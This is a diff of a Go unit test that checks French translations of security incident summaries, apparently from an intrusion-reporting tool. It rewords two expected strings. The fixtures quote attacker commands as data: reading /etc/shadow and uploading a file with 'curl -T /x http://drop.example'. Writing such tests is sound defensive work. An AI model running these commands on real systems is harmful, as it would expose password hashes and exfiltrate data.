@@ -44,7 +44,7 @@ func TestTranslate(t *testing.T) {
 	for _, tt := range []struct{ class, en, fr string }{
 		{"title", "Intrusion into web1 and db1 by 192.0.2.7 and 2 others: as far as exfiltration", "Intrusion touchant `web1` et `db1`, par `192.0.2.7` et 2 autres, jusqu’à la phase «\u00a0exfiltration\u00a0»"},
 		{"title", "Unusual activity aimed at more than 12 machines of 3 organisations", "Activité inhabituelle visant plus de 12 machines dans 3 organisations"},
-		{"why", "one action is grave by itself: within a day 1 tactic worked and 1 were tried, 0 machines entered, as it was told before", "une action est grave à elle seule\u00a0: en l’espace d’un jour, 1 tactique a abouti et 1 a été tentée, aucune machine atteinte, comme rapporté auparavant"},
+		{"why", "one action is grave by itself: within a day 1 tactic of 1 that were tried, whether it worked is not recorded, 0 machines entered, as it was told before", "une action est grave à elle seule\u00a0: en l’espace d’un jour, 1 tactique sur 1 tentées, sans trace de réussite ni d’échec, aucune machine atteinte, comme rapporté auparavant"},
 		{"step", "ran cat /etc/shadow and 1 more such act on web1", "exécution de `cat /etc/shadow` et 1 autre acte semblable sur `web1`"},
 		{"step", "tried to write /etc/passwd on web1, which failed", "tentative d’écriture de `/etc/passwd` sur `web1`, sans succès"},
 		{"step", "Password spraying succeeded (3 times) at web1, and it worked: a program then ran below the server (ran id on web1)", "«\u00a0Password spraying succeeded\u00a0» (3 fois) sur `web1`, avec succès\u00a0: un programme s’est ensuite exécuté sous le serveur (exécution de `id` sur `web1`)"},
@@ -55,7 +55,7 @@ func TestTranslate(t *testing.T) {
 		{"indicator", "Many name it (every machine's name for itself). A command on web1 names it: curl -T /x http://drop.example.", "Beaucoup de journaux nomment cet élément (nom que toute machine se donne). Une commande sur `web1` nomme cet élément\u00a0: `curl -T /x http://drop.example`."},
 		{"open", "The last step seen is Lateral Movement, at 2026-11-28 14:05 UTC: see what the same actors did afterwards.", "La dernière étape observée est «\u00a0déplacement latéral\u00a0», à la date du 2026-11-28 14:05 UTC\u00a0: voir ce que les mêmes acteurs ont fait ensuite."},
 		{"caller", "203.0.113.5 with aws-cli on linux, key …0001, as arn:aws:iam::111122223333:user/ann", "`203.0.113.5` avec `aws-cli` sous `linux`, clé `…0001`, en tant que `arn:aws:iam::111122223333:user/ann`"},
-		{"key", "login as root (the first of 9 like it, of which this is the last)", "connexion en tant que `root` (le premier de 9 actes semblables, dont voici le dernier)"},
+		{"key", "login as root (9 times alike, this is the last)", "connexion en tant que `root` (9 fois de même, voici la dernière)"},
 	} {
 		got, ok := c.translate(tt.class, tt.en)
 		if s := plainly(got); !ok || s != tt.fr {
